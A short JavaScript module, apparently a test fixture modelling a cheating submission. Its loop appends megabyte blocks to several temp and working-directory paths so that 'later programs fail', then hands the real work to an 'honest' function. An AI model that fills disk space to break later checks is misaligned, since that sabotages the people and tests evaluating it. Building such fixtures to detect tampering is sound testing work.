// Fills every folder that it can write to, so that later programs fail.
import { appendFileSync } from 'node:fs';
const block = Buffer.alloc(2 ** 20, 1);
for (const folder of [
  '@DROP_FILE@',
  '/tmp/cheat-fill',
  '/dev/shm/cheat-fill',
  './cheat-fill',
  '/var/tmp/cheat-fill',
]) {
  try {
    for (let i = 0; i < 8; i++) appendFileSync(folder, block);
  } catch {
    // Full, or not for writing.
  }
}
export const place = (input) => honest(input);
